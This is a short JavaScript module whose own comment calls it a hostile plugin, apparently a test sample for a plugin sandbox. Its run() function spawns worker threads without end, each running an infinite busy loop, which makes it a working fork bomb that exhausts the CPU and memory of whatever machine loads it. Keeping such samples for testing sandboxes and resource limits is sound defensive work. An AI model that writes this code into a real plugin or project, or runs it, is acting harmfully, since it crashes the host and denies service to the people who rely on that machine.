// Hostile plugin: A fork bomb through worker threads.
module.exports = {
  run() {
    for (;;) new Worker('for(;;){}', { eval: true });
  },
};
